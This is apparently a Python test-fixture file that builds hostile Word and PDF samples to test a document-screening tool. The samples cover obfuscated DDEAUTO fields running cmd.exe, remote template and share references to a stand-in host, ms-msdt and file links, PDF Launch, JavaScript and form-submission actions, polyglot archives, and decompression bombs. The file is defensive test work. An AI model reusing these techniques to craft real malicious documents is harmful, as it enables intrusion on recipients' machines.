"""Files that a stranger would send: each is a whole statement, and something more."""

import zipfile
import zlib
from io import BytesIO

from tests.floor.statements.files import docx, package

RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{types}</Types>'
)
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TEMPLATE, SHARE = "https://files.example/a.dotm", r"\\files.example\a.dotm"


def rels(kind, target, mode='TargetMode="External"', prefix=""):
    """The relationships of a part, of which one leads to `target`."""
    colon, name = (f"{prefix}:", f"xmlns:{prefix}") if prefix else ("", "xmlns")
    one = f'<{colon}Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" {mode}/>'
    return f'<?xml version="1.0"?><{colon}Relationships {name}="{RELATIONS}">{one}</{colon}Relationships>'


def linked(kind, target, part="settings", **how):
    """A document of which a `part` refers to `target`."""
    return docx(**{f"word/_rels/{part}.xml.rels": rels(kind, target, **how)})


def typed(types, **parts):
    """A document whose parts are declared to be of these `types`."""
    return docx(**{"[Content_Types].xml": TYPES.format(types=types)} | parts)


def written(body, **parts):
    """A document with this XML in its `body`."""
    return docx(**{"word/document.xml": document(body)} | parts)


def document(body):
    spaces = (
        f'xmlns:w="{WORD}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    )
    return f'<?xml version="1.0"?><w:document {spaces}><w:body>{body}</w:body></w:document>'


def field(*pieces, result="see"):
    """A field whose instruction is written in `pieces`, and its `result`."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f"<w:p>{mark('begin')}{runs}{mark('separate')}<w:r><w:t>{result}</w:t></w:r>{mark('end')}</w:p>"


def pieces(*pieces):
    """A field that consists of these `pieces`."""
    return f"<w:p>{mark('begin')}{''.join(pieces)}{mark('end')}</w:p>"


def code(instruction):
    return f"<w:r><w:instrText>{instruction}</w:instrText></w:r>"


def mark(kind):
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def with_two_of_one_name():
    buffer = BytesIO(docx())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/Document.xml", document("<w:p/>"))
    return buffer.getvalue()


def with_bytes_before():
    """An archive whose parts are counted from the beginning of what stands before them."""
    buffer = BytesIO(b"PK\x03\x04 a program")
    with zipfile.ZipFile(buffer, "a") as archive, zipfile.ZipFile(BytesIO(docx())) as whole:
        for name in whole.namelist():
            archive.writestr(name, whole.read(name))
    return buffer.getvalue()


def with_a_gap():
    """An archive with bytes between its parts and its directory."""
    whole = docx()
    end = whole.rindex(b"PK\x05\x06")
    directory = int.from_bytes(whole[end + 16 : end + 20], "little")
    hidden = b"MZ a program"
    moved = whole[:directory] + hidden + whole[directory:end] + whole[end : end + 16]
    return moved + (directory + len(hidden)).to_bytes(4, "little") + whole[end + 20 :]


MACROS = "application/vnd.ms-word.document.macroEnabled"
DDE = r'DDEAUTO c:\\windows\\cmd.exe "/k calc"'
IN_UTF16 = document(field(DDE)).replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")
IN_UTF7 = '<?xml version="1.0" encoding="utf-7"?>' + document("<w:p/>").partition("?>")[2]
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an object"

DOCX = {
    "template from elsewhere, with a prefix": linked("attachedTemplate", TEMPLATE, prefix="p"),
    "template from elsewhere, another case": linked("attachedTemplate", TEMPLATE, mode='TargetMode="external"'),
    "template from elsewhere, with spaces": linked("attachedTemplate", TEMPLATE, mode='TargetMode = "External"'),
    "template from elsewhere, as a number": linked("attachedTemplate", TEMPLATE, mode='TargetMode="&#69;xternal"'),
    "template from elsewhere, said to be inside": linked("attachedTemplate", SHARE, mode=""),
    "template that is named like a link": linked("attachedTemplate", f"{TEMPLATE}?/hyperlink"),
    "picture from elsewhere, named like a link": linked("image", "https://files.example/hyperlink", "document"),
    "picture from a share, said to be inside": linked("image", SHARE, "document", mode=""),
    "picture from a share with slashes": linked("image", "//files.example/a.png", "document", mode=""),
    "template under two names": docx(
        **{
            "word/_rels/settings.xml.rels": rels(
                "attachedTemplate",
                TEMPLATE,
                f'TargetMode="External" xmlns:o="o" o:Type="{OFFICE}/image" o:Target="a.png" o:TargetMode="Internal"',
            )
        }
    ),
    "link to a share": linked("hyperlink", SHARE, "document"),
    "link to a file": linked("hyperlink", "file:///c:/windows/cmd.exe", "document"),
    "link to a program": linked("hyperlink", "ms-msdt:/id", "document"),
    "relationships in UTF-16": docx(
        **{"word/_rels/settings.xml.rels": rels("attachedTemplate", TEMPLATE).encode("utf-16")}
    ),
    "relationships that a DTD makes": docx(
        **{
            "word/_rels/settings.xml.rels": rels("&kind;", TEMPLATE).replace(
                "?>", '?><!DOCTYPE r [<!ENTITY kind "attachedTemplate">]>'
            )
        }
    ),
    "a page of another program": docx(
        **{"word/afchunk.mht": "MIME", "word/_rels/document.xml.rels": rels("aFChunk", "afchunk.mht", mode="")}
    ),
    "macros of another case": typed(f'<Default Extension="xml" ContentType="{MACROS.upper()}.main+xml"/>'),
    "macros in UTF-16": docx(
        **{
            "[Content_Types].xml": TYPES.format(
                types=f'<Default Extension="xml" ContentType="{MACROS}.main+xml"/>'
            ).encode("utf-16")
        }
    ),
    "a template that may hold macros": typed(
        f'<Override PartName="/word/document.xml" ContentType="{MACROS}Template.main+xml"/>'
    ),
    "macros of another name": typed(
        '<Override PartName="/word/styles.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
        **{"word/styles.xml": "<a/>"},
    ),
    "an object of another name": docx(**{"word/media/image1.dat": OLE}),
    "an object that is called a picture": docx(**{"word/media/image1.png": OLE}),
    "an object in a folder of another name": docx(**{"word/pictures/image1.png": OLE}),
    "an object by its element": written("<w:p><w:r><w:object><o:OLEObject ProgID='Package'/></w:object></w:r></w:p>"),
    "a control by its element": written("<w:p><w:r><w:control w:name='a'/></w:r></w:p>"),
    "a picture from elsewhere by its element": written("<w:p><v:imagedata src='https://files.example/a.png'/></w:p>"),
    "a share by an element": written(rf"<w:p><v:shape href='{SHARE}'/></w:p>"),
    "a source of data": docx(**{"word/settings.xml": "<w:settings xmlns:w='w'><w:mailMerge/></w:settings>"}),
    "DDE": written(field(DDE)),
    "DDE in pieces": written(field("DD", "EAU", r"TO c:\\windows\\cmd.exe")),
    "DDE in lower case": written(field("ddeauto c:\\\\cmd.exe")),
    "DDE in a simple field": written(f"<w:p><w:fldSimple w:instr='{DDE}'/></w:p>"),
    "DDE in a header": docx(**{"word/header1.xml": document(field(DDE))}),
    "DDE that is not ended": written(f"<w:p>{mark('begin')}<w:r><w:instrText>{DDE}</w:instrText></w:r></w:p>"),
    "DDE in what was deleted": written(field(DDE).replace("instrText", "delInstrText")),
    "DDE as text": written(field(DDE).replace("instrText", "t")),
    "DDE made by another field": written(
        f"<w:p>{mark('begin')}</w:p>{field('QUOTE 68 68 69')}<w:p>{mark('separate')}{mark('end')}</w:p>"
    ),
    "DDE behind what is passed over": written(
        pieces("<o:a><w:r><w:instrText>PAGE </w:instrText></w:r></o:a>", code(DDE))
    ),
    "DDE behind what was deleted": written(
        pieces("<w:del><w:r><w:instrText>PAGE </w:instrText></w:r></w:del>", code(DDE))
    ),
    "DDE behind a deleted instruction": written(pieces("<w:r><w:delInstrText>PAGE </w:delInstrText></w:r>", code(DDE))),
    "DDE behind a text that is no instruction": written(pieces("<w:r><w:t>PAGE </w:t></w:r>", code(DDE))),
    "DDE behind a result that is passed over": written(pieces(f"<o:a>{mark('separate')}</o:a>", code(DDE))),
    "DDE behind a mark of another kind": written(
        pieces("<o:fldChar o:fldCharType='separate'/>", "<w:r><w:t>PAGE</w:t></w:r>", code(DDE))
    ),
    "DDE behind a simple field": written(
        pieces("<w:fldSimple w:instr='QUOTE 68'><w:r><w:t>PAGE</w:t></w:r></w:fldSimple>", code(DDE))
    ),
    "DDE behind a symbol": written(pieces("<w:r><w:sym w:char='0044'/></w:r>", code("PAGE"))),
    "DDE in a result": written(pieces(code("PAGE"), mark("separate"), code(DDE))),
    "DDE outside a field": written(f"<w:p>{code(DDE)}</w:p>"),
    "DDE under two names": written(f"<w:p><w:fldSimple w:instr='{DDE}' o:instr='PAGE'/></w:p>"),
    "a picture by a field": written(field(r'INCLUDEPICTURE "https://files.example/a.png" \d')),
    "another file by a field": written(field(r'INCLUDETEXT "\\\\files.example\\a.docx"')),
    "a macro by a field": written(field("MACROBUTTON Run press")),
    "a share by a field": written(field(r'HYPERLINK \t "_blank" "\\\\files.example\\a"')),
    "a text in UTF-16": written("", **{"word/document.xml": IN_UTF16}),
    "a text in UTF-7": written("", **{"word/document.xml": IN_UTF7}),
    "an instruction to the program": docx(
        **{
            "word/document.xml": '<?xml-stylesheet href="https://files.example/a.xsl"?>'
            + document("").partition("?>")[2]
        }
    ),
    "bytes behind": docx() + b"MZ a program",
    "bytes behind as a comment": docx()[:-2] + b"\x0c\0MZ a program",
    "bytes before": b"PK\x03\x04 a program" + docx(),
    "bytes before that are counted": with_bytes_before(),
    "bytes between": with_a_gap(),
    "two parts of one name": with_two_of_one_name(),
}

TO_A_SHARE = r"(\\\\files.example\\x.pdf)"


def pdf(catalog="", page="", *objects):
    """A PDF of one page with more in its `catalog` and its `page`; `objects` are numbered from 4."""
    parts = [
        f"<</Type/Catalog/Pages 2 0 R{catalog}>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]{page}>>",
        *objects,
    ]
    text, places = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, start=1):
        places.append(len(text))
        text += f"{number} 0 obj\n{part}\nendobj\n".encode("latin-1")
    begin = len(text)
    rows = "".join(f"{place:010} 00000 n \n" for place in places)
    table = f"xref\n0 {len(parts) + 1}\n0000000000 65535 f \n{rows}"
    return text + f"{table}trailer\n<</Size {len(parts) + 1}/Root 1 0 R>>\nstartxref\n{begin}\n%%EOF\n".encode()


def stream(entries, content="x"):
    return f"<</Length {len(content)}{entries}>>\nstream\n{content}\nendstream"


def link(action):
    return f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<{action}>>>>]"


def in_its_second_generation(content, number):
    """The PDF with its object of that `number` as it would be named after one of this number was removed."""
    rows = content.index(b"0000000000 65535 f \n") + 20 * number
    changed = content[: rows + 11] + b"00001" + content[rows + 16 :]
    return changed.replace(b"%d 0 obj" % number, b"%d 1 obj" % number).replace(b"%d 0 R" % number, b"%d 1 R" % number)


PDFS = {
    "a program in another generation": in_its_second_generation(
        pdf("", "/Annots[4 0 R]", "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>"), 4
    ),
    "a share at the opening": pdf(f"/OpenAction<</S/GoToR/F{TO_A_SHARE}/D[0/Fit]>>"),
    "an address at the opening": pdf("/OpenAction<</S/URI/URI(https://files.example/)>>"),
    "an address at the opening, elsewhere": pdf("/OpenAction 4 0 R", "", "<</S/URI/URI(https://files.example/)>>"),
    "another step at the opening": pdf(
        "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://files.example/)>>>>"
    ),
    "an action when a page is shown": pdf("", "/AA<</O<</S/URI/URI(https://files.example/)>>>>"),
    "a script": pdf("/OpenAction<</S/JavaScript/JS(app.alert)>>"),
    "a script of another spelling": pdf("/OpenAction<</S/J#61vaScript/#4a#53(app.alert)>>"),
    "a program": pdf("", link("/S/Launch/F(cmd.exe)")),
    "a link to a share": pdf("", link(f"/S/URI/URI{TO_A_SHARE}")),
    "a link to a file": pdf("", link("/S/URI/URI(file:///c:/windows/cmd.exe)")),
    "a link to a remote document": pdf("", link(f"/S/GoToR/F{TO_A_SHARE}")),
    "a form that is sent": pdf("", link("/S/SubmitForm/F(https://files.example/)")),
    "data that are fetched": pdf("", link("/S/ImportData/F(https://files.example/)")),
    "an unknown action": pdf("", link("/S/Surprise")),
    "a command of the reader": pdf("", link("/S/Named/N/SaveAs")),
    "all links begin at a share": pdf(f"/URI<</Base{TO_A_SHARE}>>"),
    "a stream from another file": pdf("", "/Contents 4 0 R", stream(f"/F{TO_A_SHARE}")),
    "a picture from another file": pdf("", "", stream(f"/Subtype/Form/Ref<</F{TO_A_SHARE}/Page 1>>")),
    "a file inside": pdf(
        "/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>",
        "",
        "<</Type/Filespec/F(a)/EF<</F 5 0 R>>>>",
        stream("/Type/EmbeddedFile"),
    ),
    "a file as a remark": pdf("", "/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]>>]"),
    "a program that nothing names": pdf("", "", "<</S/Launch/F(cmd.exe)>>"),
    "a file of another place": pdf("", "", f"<</Type/Filespec/F{TO_A_SHARE}>>"),
    "a film": pdf("", "/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]"),
    "a form of another kind": pdf("/AcroForm<</Fields[]/XFA(<xdp/>)>>"),
    "pictures for a printer": pdf("", "", stream(f"/OPI<</1.3<</F{TO_A_SHARE}>>>>")),
    "a file in another list": pdf("/Collection<<>>"),
}

BOMBS = {
    "nested paragraphs": written("<w:p><w:r><w:t>x</w:t></w:r>" * 2500 + "</w:p>" * 2500),
    "flat paragraphs": written("<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 200_000),
    "one long word": written("<w:p><w:t>" + "x" * 5_000_000 + "</w:t></w:p>"),
    "an entity": docx(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY b "bbbb">]><a>' + "&b;" * 9 + "</a>"}),
    "many parts": package({f"word/media/{number}.png": b"" for number in range(1000)}),
    "zeros": docx(**{"word/media/a.bmp": b"BM" + b"\0" * 63_000_000}),
    "a PDF of many parts": pdf("", "", *["<<>>"] * 20_001),
}
# Its page unpacks to 300 MB, which only counting its words would do.
PDF_OF_ZEROS = pdf(
    "", "/Contents 4 0 R", stream("/Filter/FlateDecode", zlib.compress(bytes(300_000_000)).decode("latin-1"))
)
